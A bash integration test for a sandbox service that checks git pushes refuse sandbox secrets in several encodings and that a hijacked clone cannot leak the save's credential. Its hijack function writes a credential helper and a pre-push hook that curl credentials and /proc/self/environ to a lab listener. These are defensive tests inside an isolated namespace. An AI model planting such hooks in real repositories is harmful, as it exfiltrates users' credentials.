#!/usr/bin/env bash
# t_save_leaks.sh: nothing of a sandbox's secrets, nor the save's own credential, leaves it
# through git (issue 32 A.3 and A.5; decisions 0077 and 0078, docs/security.md).
#
# A.3: a push or a save carrying a value of the sandbox's secrets (raw, base64,
# percent-encoded; in a file, or in a ref's name) is refused naming the secret, never the
# value: the idle stop goes on with nothing saved (the whole save refused, the clean files
# too) and its audit row says why; close {save: true} is a 409 and the sandbox stays open;
# the sandbox's own `git push` is refused the same way. Positive: clean work pushes and
# saves; a sandbox not given the secret is not searched for it.
#
# A.5: a sandbox that points its clone elsewhere (origin, url.*.insteadOf in the clone, the
# home and the system, http.proxy, a credential helper, a pre-push hook) before a stop: the
# save still pushes to the service (its work lands; a refused one is refused by the
# service's own push protection), a listener at "elsewhere" receives nothing, and no git
# process of the save (nor the save's shell) has the credential in its environment or
# arguments. The listener lives in the egress lab's network namespace (lib.sh egress_lab):
# nothing leaves this machine.
. "$(dirname "$0")/lib.sh"

fails() { ! "$@"; }
O="svl$SFX"
mk_repo "$O" leaks
BARE=$REPOS_DIR/$O/leaks.git
# No known format (push protection's rules pass it): only the sandbox's own value tells.
VALUE="npm_s3cr3t-$SFX-value"
DBPASS="p@ss/w0rd+$SFX"
DBPASS_PCT=$(jq -rn --arg v "$DBPASS" '$v | @uri')
put_secret() {
	api PUT "/api/v3/repos/$R/sandbox-secrets/$1" "$(jq -nc --arg v "$2" '{value: $v}')" "$OT"
	expect_status 201 "the repository's sandbox secret $1"
}
put_secret NPM_TOKEN "$VALUE"
put_secret DB_PASSWORD "$DBPASS"
check 'the percent-encoded password differs from it' [ "$DBPASS_PCT" != "$DBPASS" ]

state() { sql "select state from sandboxes where id = '$1'"; }
is_state() { [ "$(state "$1")" = "$2" ]; }
new_sandbox() {
	local body=${1:-'{}'}
	api POST "$SB" "$body" "$OT"
	expect_status 201 "a sandbox $body"
	ID=$(_json .id)
	CID=$(docker ps -q --filter "label=sandboxd.sandbox=$(owner_label_of "$ID")")
	AT_EXIT+=("api POST '$SB/$ID/close' '' '$OT' >/dev/null 2>&1")
}
run() { api POST "$SB/$ID/exec" "$(jq -nc --arg c "$1" '{cmd: $c}')" "$OT"; }
box() { docker exec -u "$BOX_USER" -w /workspace/repo "$CID" "$@"; }
idle_now() { sql "update sandboxes set idle_stop_at = now() - interval '1 second', busy_until = null where id = '$1'" >/dev/null; }
saved() { git --git-dir="$BARE" rev-parse -q --verify "refs/namespaces/ephemeral/refs/heads/sandbox/$1"; }
# Whether any object of the repository holds TEXT (loose or packed, every ref or none).
in_repo() { git --git-dir="$BARE" cat-file --batch-all-objects --batch 2>/dev/null | grep -qaF -- "$1"; }
stop_error() { sql "select coalesce(details->>'save_error', '') from audit_log where action = 'sandbox.stop' and sandbox_id = '$1'"; }
has_stop_error() { [ -n "$(stop_error "$1")" ]; }
ref_row() { sql "select (details->>'result') || '|' || (details->>'reason') from audit_log where action = 'git.push.ref' and details->>'ref' = '$1' order by id desc limit 1"; }
IN_COMMIT='in commit [0-9a-f]\{12\}; remove it from the history and push again$'

# --- A.3: the idle stop's save of a secret written into .npmrc ------------------------------------
new_sandbox '{"secrets":["NPM_TOKEN"]}'
S1=$ID
run 'printf "//registry.npmjs.org/:_authToken=%s\n" "$NPM_TOKEN" >.npmrc && echo clean >clean.txt && echo ok'
expect_json .stdout ok 'a build step writes NPM_TOKEN into .npmrc, beside a clean file'
idle_now "$S1"
check 'the idle stop still stops it' wait_until 30 is_state "$S1" stopped
check 'nothing is saved: no ephemeral ref (the clean file neither: the save is refused whole)' test -z "$(saved "$S1")"
check 'the value is in no object of the repository' fails in_repo "$VALUE"
api GET "/api/v3/repos/$R/branches?namespace=ephemeral" '' "$OT"
check_eq "the review routes list no sandbox/$S1" '200|' "$STATUS|$(_json ".[] | select(.name == \"sandbox/$S1\") | .name")"
check "the stop's audit row says why" wait_until 10 has_stop_error "$S1"
check "naming the secret and the file, never the value" \
	grep -q "^sandboxd: push refused: sandbox secret NPM_TOKEN found in .npmrc (line 1) $IN_COMMIT" <<<"$(stop_error "$S1")"
check "the refused ref's row names it too" \
	grep -q "^refused|push refused: sandbox secret NPM_TOKEN found in .npmrc (line 1) " <<<"$(ref_row "refs/namespaces/ephemeral/refs/heads/sandbox/$S1")"

# --- A.3: close {save: true}, base64, and the sandbox's own git push ----------------------------------
new_sandbox '{"secrets":["NPM_TOKEN","DB_PASSWORD"]}'
S2=$ID
run 'printf "_auth=%s\n" "$(printf "me:%s" "$NPM_TOKEN" | base64 -w0)" >.npmrc && echo ok'
expect_json .stdout ok "the secret base64'd into .npmrc's _auth"
api POST "$SB/$S2/close" '{"save":true}' "$OT"
expect_status 409 'close {save: true}: 409'
check 'saying why: its base64 form, by name' \
	grep -q "^its work could not be saved: sandboxd: push refused: sandbox secret NPM_TOKEN (base64) found in .npmrc (line 1) in commit" <<<"$(_json .error)"
check_eq 'and it stays open' ready "$(state "$S2")"
check 'nothing saved' test -z "$(saved "$S2")"
run 'git push origin HEAD:refs/heads/leak 2>&1; echo "rc=$?"'
check "its own git push of that commit: refused by name" \
	grep -q "^remote: sandboxd: push refused: sandbox secret NPM_TOKEN (base64) found in .npmrc (line 1) in commit" <<<"$(_json .stdout)"
check 'git says it failed' grep -q '^rc=1$' <<<"$(_json .stdout)"
check 'no branch leak' fails git --git-dir="$BARE" rev-parse -q --verify refs/heads/leak
# Percent-encoded in the sandbox (the command itself holds no form of it).
run 'v=$DB_PASSWORD o=; for ((i = 0; i < ${#v}; i++)); do c=${v:i:1}
	case $c in [A-Za-z0-9._~-]) o+=$c ;; *) printf -v h "%%%02X" "'"'"'$c"; o+=$h ;; esac; done
	git checkout -q origin/main && printf "url=postgres://me:%s@db/x\n" "$o" >db.env &&
	git add db.env && git commit -qm db && git push origin HEAD:refs/heads/db 2>&1; echo "rc=$?"'

check "percent-encoded, in a URL: refused by name" \
	grep -q "^remote: sandboxd: push refused: sandbox secret DB_PASSWORD (percent-encoded) found in db.env (line 1) in commit" <<<"$(_json .stdout)"
run 'git push origin "origin/main:refs/heads/x-$NPM_TOKEN" 2>&1; echo "rc=$?"'
check "a ref named with it: refused, the name withheld" \
	grep -q "^remote: sandboxd: push refused: sandbox secret NPM_TOKEN found in the name of a ref (withheld here); push it under another name" <<<"$(_json .stdout)"
check_eq 'its audit row holds the placeholder, not the name' 'refused' "$(sql "select details->>'result' from audit_log where action = 'git.push.ref' and details->>'ref' = '(withheld)' and repository = '$R'")"
check 'no such branch' test -z "$(git --git-dir="$BARE" for-each-ref 'refs/heads/x-*')"
check 'the value is in no object of the repository' fails in_repo "$VALUE"
check 'nor the password, in either form' fails in_repo "$DBPASS_PCT"
# Positive: clean work from the same sandbox pushes, and then saves.
run 'git checkout -q origin/main && echo fine >fine.txt && git add fine.txt && git commit -qm fine && git push -q origin HEAD:refs/heads/fine 2>&1; echo "rc=$?"'
check_eq "a clean push from it passes" 'rc=0' "$(_json .stdout)"
check 'the branch is there' git --git-dir="$BARE" rev-parse -q --verify refs/heads/fine
run 'echo more >more.txt && echo ok'
api POST "$SB/$S2/close" '{"save":true}' "$OT"
expect_status 204 'once the secret is out of its work, close {save: true}: 204'
check_eq 'its work saved' more "$(git --git-dir="$BARE" show "refs/namespaces/ephemeral/refs/heads/sandbox/$S2:more.txt" 2>/dev/null)"
api GET "/api/v3/repos/$R/commits/sandbox/$S2?namespace=ephemeral" '' "$OT"
check_eq 'readable through the review routes' '200|more.txt' "$(_json '.files | map(.filename) | join(",")' | sed "s/^/$STATUS|/")"

check_eq 'no audit row holds a value, in any form' 0 "$(sql "select count(*) from audit_log where details::text like '%$VALUE%' or details::text like '%$DBPASS%' or details::text like '%$DBPASS_PCT%'")"

# Scope: a sandbox that was not given NPM_TOKEN cannot know it, and is not searched for it.
new_sandbox
run "printf 'v=%s\n' '$VALUE' >other.txt && git add other.txt && git commit -qm other && git push -q origin HEAD:refs/heads/other 2>&1; echo \"rc=\$?\""
check_eq "a sandbox without the secret pushes that text" 'rc=0' "$(_json .stdout)"

# --- A.5: the save's credential goes only to the service --------------------------------------------
AT_EXIT+=(egress_lab_down)
egress_lab
LPORT=$((20000 + SRANDOM % 40000))
LOG=$_T/elsewhere.log
: >"$LOG"
ip netns exec "$NS" "$PY" "$IT_DIR/listen_log.py" "$NS_IP" "$LPORT" "$LOG" >"$_T/listen.err" 2>&1 </dev/null {EGRESS_LAB_FD}>&- &
disown
EL=http://$NS_IP:$LPORT
requests() { grep -c '^[A-Z]\+ [^ ]\+ HTTP/1\.[01]' "$LOG"; }
check "the elsewhere listener answers the host" wait_until 15 eval "curl -s -m 2 -o /dev/null '$EL/host-$SFX'; grep -q 'GET /host-$SFX' '$LOG'"

# hijack: what a build step (or a dependency's install script) can do to a sandbox's git
# before its stop, every way pointing at EL; as root inside, the system's configuration too.
hijack() {
	local url base
	url=$(box git remote get-url origin)
	base=${url%/*/*}/
	box sh -c "git remote set-url origin '$EL/$R.git' &&
		git config url.'$EL/'.insteadOf '$base' && git config url.'$EL/'.pushInsteadOf '$base' &&
		git config http.proxy '$EL' && git config credential.helper '!f() { curl -s --data-binary @- $EL/helper; }; f' &&
		mkdir -p /tmp/hooks && printf '#!/bin/sh\ncurl -s --data-binary @/proc/self/environ $EL/hook\n' >/tmp/hooks/pre-push &&
		chmod +x /tmp/hooks/pre-push && git config core.hooksPath /tmp/hooks &&
		git config --global url.'$EL/'.insteadOf '$base' &&
		{ [ \"\$(id -u)\" != 0 ] || printf '[url \"%s/\"]\n\tinsteadOf = %s\n' '$EL' '$base' >>/etc/gitconfig; }"
}
new_sandbox
S5=$ID
box curl -s -m 5 -o /dev/null "$EL/probe-$SFX"
check 'a sandbox reaches the elsewhere listener (so it would see a request)' grep -q "GET /probe-$SFX" "$LOG"
check 'a sandbox points its git at elsewhere' hijack
BEFORE=$(requests)
# The git the save runs, as a sandbox can replace it: it writes down its arguments, its
# environment and its parent's (the save's shell), then runs the real one.
if [ "$BOX_UID" = 0 ]; then
	box sh -c 'printf "%s\n" "#!/bin/sh" \
		"{ printf \"argv:\"; printf \" %s\" \"\$0\" \"\$@\"; echo; env; echo parent:; tr \"\\\\0\" \" \" </proc/\$PPID/cmdline; echo; tr \"\\\\0\" \"\\\\n\" </proc/\$PPID/environ; } >>/tmp/seen.log 2>/dev/null" \
		"exec /usr/bin/git \"\$@\"" >/usr/local/bin/git && chmod +x /usr/local/bin/git'
fi
SECRET=$(mk_token "$O" read)
run "printf 'token = %s\n' '$SECRET' >leak.txt && echo ok"
api POST "$SB/$S5/close" '{"save":true}' "$OT"
expect_status 409 'its save, refused: 409'
check "refused by the service's own push protection: the push went to the service" \
	grep -q "^its work could not be saved: sandboxd: push refused: sandboxd token found in leak.txt (line 1) in commit" <<<"$(_json .error)"
check_eq 'the listener at elsewhere received nothing' "$BEFORE" "$(requests)"
check 'no credential in it' fails grep -qE 'Authorization|eyJ' "$LOG"
if [ "$BOX_UID" = 0 ]; then
	SEEN=$(box cat /tmp/seen.log 2>/dev/null)
	check "the save's git ran (and was watched): its push" grep -q '^argv:.* push ' <<<"$SEEN"
	CRED_RE='eyJ|eC1hY2Nlc3MtdG9rZW46|SANDBOXD_SAVE_TOKEN|Authorization: '
	check "no git process of the save, nor the save's shell, has a credential in its environment or arguments" \
		fails grep -qE "$CRED_RE" <<<"$SEEN"
	# What matched, cut short (never a whole credential in the test's output).
	grep -oE "[^ ]{0,8}($CRED_RE).{0,8}" <<<"$SEEN" | sort -u | head -n 5 | sed 's/^/       seen: /' >&2
else
	skip "the save's environment, watched through a git of the sandbox's (needs root inside: uid $BOX_UID)"
fi

# The push's own git directory borrows the clone's objects: a blobless and a shallow clone
# save as a full one does.
for kind in '{"filter":"blob:none"}' '{"depth":1}'; do
	new_sandbox "$kind"
	run 'echo light >light.txt && echo ok'
	api POST "$SB/$ID/close" '{"save":true}' "$OT"
	expect_status 204 "close {save: true} of a sandbox $kind: 204"
	check_eq 'its work saved' light "$(git --git-dir="$BARE" show "refs/namespaces/ephemeral/refs/heads/sandbox/$ID:light.txt" 2>/dev/null)"
done

new_sandbox
S6=$ID
check 'another sandbox points its git at elsewhere' hijack
run 'echo kept >kept.txt && echo ok'
idle_now "$S6"
check 'the idle stop stops it' wait_until 30 is_state "$S6" stopped
check_eq 'its work is on its ephemeral ref all the same' kept "$(git --git-dir="$BARE" show "refs/namespaces/ephemeral/refs/heads/sandbox/$S6:kept.txt" 2>/dev/null)"
check_eq 'the listener at elsewhere received nothing' "$BEFORE" "$(requests)"
check 'no credential in it' fails grep -qE 'Authorization|eyJ' "$LOG"
finish
